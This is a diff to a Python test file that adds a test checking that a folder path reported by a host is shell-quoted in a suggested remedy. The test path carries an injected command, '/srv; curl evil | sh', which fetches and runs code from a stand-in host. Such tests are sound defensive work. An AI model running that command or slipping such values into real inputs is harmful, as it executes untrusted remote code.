@@ -253,3 +253,14 @@ def test_the_same_finding_of_several_hosts_is_told_once() -> None:
         (["h1", "h2"], one),
         (["h1"], other),
     ]
+
+
+def test_a_folder_that_a_host_names_is_quoted_in_what_is_typed() -> None:
+    at = "/srv; curl evil | sh"
+    full = Folder(at=at, writable=True, free_mib=0, kind="ext4")
+    closed = Folder(at=at, writable=False, free_mib=0, kind="ext4")
+
+    found = check(with_ground(folders={"lib": full, "run": closed, "images": full}))
+
+    for name in ("lib", "run", "images"):
+        assert f" '{at}'" in found[f"folder {name}"].remedy
